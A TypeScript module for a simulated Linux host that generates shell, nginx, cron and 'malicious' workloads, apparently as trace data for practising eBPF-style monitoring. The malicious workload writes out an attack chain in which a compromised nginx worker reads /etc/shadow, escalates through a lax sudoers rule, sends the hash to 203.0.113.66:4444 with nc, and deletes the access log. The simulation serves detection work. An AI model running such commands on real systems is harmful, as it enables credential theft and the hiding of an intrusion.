/**
 * The seeded workloads that populate the simulated host:
 *   shell      alice's interactive bash: types a command (readline), forks, execs ls/cat/grep/
 *              gzip/rm, waits; each program starts by loading libc (ld.so.cache, libc.so.6)
 *   webserver  nginx: a root master and two www-data workers accepting connections on :80
 *              (arrivals ~40/s), reading the request, serving a file from /var/www/html (or a
 *              404), appending to the access log, and now and then proxying to 10.0.0.5:8080
 *   cron       cron runs `/bin/sh -c gzip …` periodically: gzip burns CPU on the nginx log
 *   malicious  a compromised nginx worker spawns /bin/sh, which tries `cat /etc/shadow` (EACCES),
 *              then `sudo cat /etc/shadow` (setuid root: succeeds unless an LSM says no), then
 *              `nc 203.0.113.66 4444` (an odd outbound port), then removes the access log
 *
 * Deliberately not here: realistic command output, systemd, more than one user session.
 * Provenance: our own code; the behaviour imitates what opensnoop/execsnoop show on a Debian host.
 */
import type { Rng } from '../rng.ts';
import { S_IFCHR } from '../host/fs.ts';
import { allocFile } from '../host/kobjects.ts';
import type { Task } from '../host/task.ts';
import { allocSock } from '../host/kobjects.ts';
import { arrive, TCP_CLOSE } from './kernel.ts';
import {
  O_APPEND, O_CLOEXEC, O_CREAT, O_DIRECTORY, O_NONBLOCK, O_RDONLY, O_TRUNC, O_WRONLY, type Frames, type Op, type Program,
} from './ops.ts';
import type { World } from './world.ts';

export type WorkloadName = 'shell' | 'webserver' | 'cron' | 'malicious';
type Prog = Generator<Op, void, number>;

const LIBC = '/lib/x86_64-linux-gnu/libc.so.6';
const MS = 1_000_000;

// cgroup ids (inode numbers of the cgroup directories, as bpf_get_current_cgroup_id reports)
export const CGROUP_USER = 8834n;       // /user.slice/user-1000.slice/session-3.scope
export const CGROUP_NGINX = 4421n;      // /system.slice/nginx.service
export const CGROUP_CRON = 4398n;       // /system.slice/cron.service

/** What every dynamically linked program does first: find and map libc. */
function* loadLibc(): Prog {
  const c = yield { op: 'openat', path: '/etc/ld.so.cache', flags: O_RDONLY | O_CLOEXEC };
  if (c >= 0) yield { op: 'close', fd: c };
  const l = yield { op: 'openat', path: LIBC, flags: O_RDONLY | O_CLOEXEC };
  if (l >= 0) { yield { op: 'read', fd: l, count: 832 }; yield { op: 'close', fd: l }; }
}

/** Read a whole file into fd 1 (cat); returns false when it could not be opened. */
function* catFile(path: string): Generator<Op, boolean, number> {
  const fd = yield { op: 'openat', path, flags: O_RDONLY };
  if (fd < 0) { yield { op: 'write', fd: 2, data: `cat: ${path}: ${fd === -13 ? 'Permission denied' : fd === -2 ? 'No such file or directory' : 'Operation not permitted'}\n` }; return false; }
  for (;;) {
    const n = yield { op: 'read', fd, count: 131072 };
    if (n <= 0) break;
    yield { op: 'write', fd: 1, data: 'x'.repeat(Math.min(n, 64)) };
  }
  yield { op: 'close', fd };
  return true;
}

const cat = (paths: string[]): Program => function* () {
  yield* loadLibc();
  let ok = true;
  for (const p of paths) ok = (yield* catFile(p)) && ok;
  yield { op: 'exit', code: ok ? 0 : 1 };
};

const ls = (dir: string): Program => function* () {
  yield* loadLibc();
  const fd = yield { op: 'openat', path: dir, flags: O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_DIRECTORY };
  if (fd >= 0) yield { op: 'close', fd };
  yield { op: 'write', fd: 1, data: 'build.log  notes.txt\n' };
  yield { op: 'exit', code: fd >= 0 ? 0 : 2 };
};

const grep = (pattern: string, path: string): Program => function* () {
  yield* loadLibc();
  const fd = yield { op: 'openat', path, flags: O_RDONLY };
  if (fd >= 0) {
    yield { op: 'read', fd, count: 98304 };
    yield { op: 'read', fd, count: 98304 };
    yield { op: 'write', fd: 1, data: `${pattern}:x:0:0:root:/root:/bin/bash\n` };
    yield { op: 'close', fd };
  }
  yield { op: 'exit', code: fd >= 0 ? 0 : 2 };
};

const rm = (path: string): Program => function* () {
  yield* loadLibc();
  const r = yield { op: 'unlinkat', path };
  yield { op: 'exit', code: r === 0 ? 0 : 1 };
};

const GZIP_STACK: Frames = [
  ['/usr/bin/gzip', 'longest_match'], ['/usr/bin/gzip', 'deflate'], ['/usr/bin/gzip', 'zip'], ['/usr/bin/gzip', 'treat_file'],
  ['/usr/bin/gzip', 'main'], [LIBC, '__libc_start_call_main'], [LIBC, '__libc_start_main_impl'], [LIBC, '_start'],
];
const GZIP_STACK2: Frames = [['/usr/bin/gzip', 'fill_window'], ...GZIP_STACK.slice(1)];
const GZIP_STACK3: Frames = [['/usr/bin/gzip', 'updcrc'], ...GZIP_STACK.slice(2)];

const gzip = (src: string, dst: string, ms: [number, number]): Program => function* (ctx) {
  yield* loadLibc();
  const fd = yield { op: 'openat', path: src, flags: O_RDONLY };
  if (fd < 0) { yield { op: 'exit', code: 1 }; return; }
  yield { op: 'read', fd, count: 32768 };
  const total = ctx.rng.range(ms[0], ms[1]) * MS;
  // compressing: mostly longest_match, some fill_window and updcrc
  for (const [st, share] of [[GZIP_STACK, 6], [GZIP_STACK2, 3], [GZIP_STACK3, 1]] as const) yield { op: 'compute', ns: (total * share) / 10, stack: st };
  yield { op: 'read', fd, count: 32768 };
  const out = yield { op: 'openat', path: dst, flags: O_WRONLY | O_CREAT | O_TRUNC, mode: 0o640 };
  if (out >= 0) { yield { op: 'write', fd: out, data: '\x1f\x8b compressed' }; yield { op: 'close', fd: out }; }
  yield { op: 'close', fd };
  yield { op: 'exit', code: 0 };
};

/** A child that execs `path` and, if that fails, reports like bash and exits 126/127. */
const execChild = (path: string, argv: string[], then: Program): Program => function* () {
  const r = yield { op: 'execve', path, argv, then };
  yield { op: 'write', fd: 2, data: `${argv[0]}: ${r === -2 ? 'command not found' : 'Permission denied'}\n` };
  yield { op: 'exit', code: r === -2 ? 127 : 126 };
};

/** fork + exec + wait, as a shell runs a command; returns the child's pid. */
function* run(path: string, argv: string[], then: Program): Generator<Op, number, number> {
  const pid = yield { op: 'fork', child: execChild(path, argv, then) };
  yield { op: 'wait', pid };
  return pid;
}

interface Cmd { line: string; path: string; argv: string[]; prog: Program }
const COMMANDS: Cmd[] = [
  { line: 'ls /tmp', path: '/bin/ls', argv: ['ls', '/tmp'], prog: ls('/tmp') },
  { line: 'cat /etc/passwd', path: '/bin/cat', argv: ['cat', '/etc/passwd'], prog: cat(['/etc/passwd']) },
  { line: 'grep root /etc/passwd', path: '/bin/grep', argv: ['grep', 'root', '/etc/passwd'], prog: grep('root', '/etc/passwd') },
  { line: 'cat notes.txt', path: '/bin/cat', argv: ['cat', 'notes.txt'], prog: cat(['notes.txt']) },
  { line: 'gzip -k notes.txt', path: '/usr/bin/gzip', argv: ['gzip', '-k', 'notes.txt'], prog: gzip('notes.txt', 'notes.txt.gz', [3, 8]) },
  { line: 'rm /tmp/build.log', path: '/bin/rm', argv: ['rm', '/tmp/build.log'], prog: rm('/tmp/build.log') },
];

const bash: Program = function* (ctx) {
  while (ctx.now() < ctx.endNs) {
    yield { op: 'sleep', ns: ctx.rng.range(40, 200) * MS };
    const cmd = ctx.rng.pick(COMMANDS);
    yield { op: 'readline', line: cmd.line, keyNs: ctx.rng.range(6, 20) * MS };
    yield { op: 'malloc', size: 16 + cmd.line.length };
    yield* run(cmd.path, cmd.argv, cmd.prog);
  }
};

const PAGES = ['/var/www/html/index.html', '/var/www/html/style.css', '/var/www/html/logo.png', '/var/www/html/missing.html'];
const NGX_STACK: Frames = [
  ['/usr/sbin/nginx', 'ngx_http_parse_request_line'], ['/usr/sbin/nginx', 'ngx_http_process_request_line'],
  ['/usr/sbin/nginx', 'ngx_http_wait_request_handler'], ['/usr/sbin/nginx', 'ngx_epoll_process_events'],
  ['/usr/sbin/nginx', 'ngx_process_events_and_timers'], ['/usr/sbin/nginx', 'ngx_worker_process_cycle'], ['/usr/sbin/nginx', 'main'],
  [LIBC, '__libc_start_call_main'], [LIBC, '__libc_start_main_impl'], [LIBC, '_start'],
];
const NGX_STATIC: Frames = [['/usr/sbin/nginx', 'ngx_http_static_handler'], ...NGX_STACK.slice(2)];

/** fd of the listening socket every worker inherits from the master. */
const LISTEN_FD = 6;

const nginxWorker: Program = function* (ctx) {
  const log = yield { op: 'openat', path: '/var/log/nginx/access.log', flags: O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, mode: 0o640 };
  while (ctx.now() < ctx.endNs) {
    const fd = yield { op: 'accept', fd: LISTEN_FD, port: 80 };
    yield { op: 'malloc', size: 1024 };
    yield { op: 'read', fd, count: 1024 };
    yield { op: 'compute', ns: ctx.rng.range(50, 400) * 1000, stack: NGX_STACK };
    const page = ctx.rng.pick(PAGES);
    const f = yield { op: 'openat', path: page, flags: O_RDONLY | O_NONBLOCK | O_CLOEXEC };
    if (f >= 0) {
      yield { op: 'read', fd: f, count: 65536 };
      yield { op: 'compute', ns: ctx.rng.range(20, 200) * 1000, stack: NGX_STATIC };
      yield { op: 'write', fd, data: 'HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n' };
      yield { op: 'close', fd: f };
    } else yield { op: 'write', fd, data: 'HTTP/1.1 404 Not Found\r\n\r\n' };
    if (ctx.rng.chance(0.2)) {
      const s = yield { op: 'socket' };
      const r = yield { op: 'connect', fd: s, ip: [10, 0, 0, 5], port: 8080, rttNs: ctx.rng.range(200, 2000) * 1000 };
      if (r === 0) {
        yield { op: 'write', fd: s, data: 'GET /api/status HTTP/1.0\r\n\r\n' };
        yield { op: 'read', fd: s, count: 4096, waitNs: ctx.rng.range(1, 6) * MS };
      }
      yield { op: 'close', fd: s };
    }
    if (log >= 0) yield { op: 'write', fd: log, data: `198.51.100.7 - - "GET ${page.slice(13)} HTTP/1.1" ${f >= 0 ? 200 : 404} 52\n` };
    yield { op: 'close', fd };
  }
};

const idle = (): Program => function* (ctx) { yield { op: 'sleep', ns: ctx.endNs - ctx.now() + MS }; };

/** Give a daemon /dev/null (or alice's tty) on 0-2 and, for nginx, the listening socket. */
function stdio(w: World, t: Task, tty: boolean): void {
  const path = tty ? '/dev/pts/0' : '/dev/null';
  if (!w.fs.get(path)) w.fs.add(path, new Uint8Array(0), 0, 0, S_IFCHR | 0o666);
  const file = allocFile(w.ks, w.fs.dentry(path), 2, 0x1f);
  for (const fd of [0, 1, 2]) t.proc.fds.set(fd, { kind: 'tty', path, flags: 2, pos: 0, fileAddr: file });
}

function listenSocket(w: World, t: Task): void {
  const { sk, socket } = allocSock(w.ks, 2);
  const file = allocFile(w.ks, w.fs.dentry('/'), 2, 0x1f);
  t.proc.fds.set(LISTEN_FD, { kind: 'socket', path: 'TCP', flags: 2, pos: 0, fileAddr: file, sk, socket, tcpState: TCP_CLOSE, local: [[0, 0, 0, 0], 80], remote: [[0, 0, 0, 0], 0] });
}

function nginxMaster(w: World): Task {
  const existing = [...w.tasks.values()].find((t) => t.comm === 'nginx' && t.uid === 0);
  if (existing) return existing;
  const m = w.spawn({ comm: 'nginx', exe: '/usr/sbin/nginx', uid: 0, gid: 0, cgroupId: CGROUP_NGINX, cwd: '/', ppid: 1, prog: idle(), atNs: w.clock.mono + MS });
  stdio(w, m, false);
  listenSocket(w, m);
  return m;
}

function webserver(w: World, rng: Rng): void {
  const master = nginxMaster(w);
  for (let i = 0; i < 2; i++) {
    const t = w.spawn({ comm: 'nginx', exe: '/usr/sbin/nginx', uid: 33, gid: 33, cgroupId: CGROUP_NGINX, cwd: '/', ppid: master.pid, parent: master, prog: nginxWorker, atNs: w.clock.mono + rng.range(1, 5) * MS });
    stdio(w, t, false);
    t.proc.fds.set(LISTEN_FD, master.proc.fds.get(LISTEN_FD)!);
  }
  // connection arrivals: ~40/s, uniform gaps of 0..50 ms
  let at = w.clock.mono + rng.range(2, 20) * MS;
  const next = (): void => {
    arrive(w, 80, [198, 51, 100, rng.range(2, 250)], rng.range(32768, 60999));
    at += rng.range(1, 50) * MS;
    if (at < w.endNs) w.at(at, next);
  };
  w.at(at, next);
}

const sh = (inner: { path: string; argv: string[]; prog: Program }[]): Program => function* () {
  yield* loadLibc();
  for (const c of inner) yield* run(c.path, c.argv, c.prog);
  yield { op: 'exit', code: 0 };
};

function cron(w: World, rng: Rng): void {
  const job = sh([{
    path: '/usr/bin/gzip', argv: ['gzip', '-c', '/var/log/nginx/access.log'],
    prog: gzip('/var/log/nginx/access.log', '/var/log/nginx/access.log.1.gz', [15, 45]),
  }]);
  const crond: Program = function* (ctx) {
    while (ctx.now() < ctx.endNs) {
      yield { op: 'sleep', ns: rng.range(500, 900) * MS };
      const f = yield { op: 'openat', path: '/etc/crontab', flags: O_RDONLY | O_CLOEXEC };
      if (f >= 0) { yield { op: 'read', fd: f, count: 4096 }; yield { op: 'close', fd: f }; }
      yield* run('/bin/sh', ['/bin/sh', '-c', 'gzip -c /var/log/nginx/access.log > /var/log/nginx/access.log.1.gz'], job);
    }
  };
  const t = w.spawn({ comm: 'cron', exe: '/usr/sbin/cron', uid: 0, gid: 0, cgroupId: CGROUP_CRON, cwd: '/', ppid: 1, prog: crond, atNs: w.clock.mono + rng.range(5, 50) * MS });
  stdio(w, t, false);
}

const sudo = (path: string, argv: string[], then: Program): Program => function* () {
  yield* loadLibc();
  const f = yield { op: 'openat', path: '/etc/sudoers', flags: O_RDONLY };
  if (f >= 0) yield { op: 'close', fd: f };
  yield* run(path, argv, then);
  yield { op: 'exit', code: 0 };
};

const nc = (ip: number[], port: number): Program => function* () {
  yield* loadLibc();
  const s = yield { op: 'socket' };
  const r = yield { op: 'connect', fd: s, ip, port, rttNs: 35 * MS };
  if (r === 0) yield { op: 'write', fd: s, data: 'root:$y$j9T$...' };
  else yield { op: 'write', fd: 2, data: 'nc: connect: Operation not permitted\n' };
  yield { op: 'close', fd: s };
  yield { op: 'exit', code: r === 0 ? 0 : 1 };
};

export const EVIL_IP = [203, 0, 113, 66];
export const EVIL_PORT = 4444;

function malicious(w: World, rng: Rng): void {
  const master = nginxMaster(w);
  if (!w.fs.get('/etc/sudoers')) w.fs.add('/etc/sudoers', new TextEncoder().encode('www-data ALL=(ALL) NOPASSWD: /bin/cat\n'), 0, 0, 0o100440);
  const attack = sh([
    { path: '/bin/cat', argv: ['cat', '/etc/shadow'], prog: cat(['/etc/shadow']) },
    { path: '/usr/bin/sudo', argv: ['sudo', 'cat', '/etc/shadow'], prog: sudo('/bin/cat', ['cat', '/etc/shadow'], cat(['/etc/shadow'])) },
    { path: '/usr/bin/nc', argv: ['nc', EVIL_IP.join('.'), String(EVIL_PORT)], prog: nc(EVIL_IP, EVIL_PORT) },
    { path: '/bin/rm', argv: ['rm', '/var/log/nginx/access.log'], prog: rm('/var/log/nginx/access.log') },
  ]);
  const duration = w.endNs - w.clock.mono;
  const startAt = Math.floor(duration * (0.2 + rng.float() * 0.2));
  const compromised: Program = function* (ctx) {
    yield { op: 'sleep', ns: startAt };
    const fd = yield { op: 'accept', fd: LISTEN_FD, port: 80 };
    yield { op: 'read', fd, count: 1024, waitNs: 100_000 };
    yield* run('/bin/sh', ['/bin/sh', '-c', 'cat /etc/shadow; sudo cat /etc/shadow; nc 203.0.113.66 4444; rm /var/log/nginx/access.log'], attack);
    yield { op: 'close', fd };
    yield { op: 'sleep', ns: ctx.endNs - ctx.now() + MS };
  };
  const t = w.spawn({ comm: 'nginx', exe: '/usr/sbin/nginx', uid: 33, gid: 33, cgroupId: CGROUP_NGINX, cwd: '/', ppid: master.pid, parent: master, prog: compromised, atNs: w.clock.mono + MS });
  stdio(w, t, false);
  t.proc.fds.set(LISTEN_FD, master.proc.fds.get(LISTEN_FD)!);
  // the attacker's request
  w.at(w.clock.mono + startAt + 2 * MS, () => arrive(w, 80, [192, 0, 2, 99], 51515));
}

function shell(w: World, rng: Rng): void {
  const t = w.spawn({ comm: 'bash', exe: '/bin/bash', uid: 1000, gid: 1000, cgroupId: CGROUP_USER, cwd: '/home/alice', ppid: 1, prog: bash, atNs: w.clock.mono + rng.range(1, 30) * MS });
  stdio(w, t, true);
}

export const WORKLOADS: Record<WorkloadName, (w: World, rng: Rng) => void> = { shell, webserver, cron, malicious };
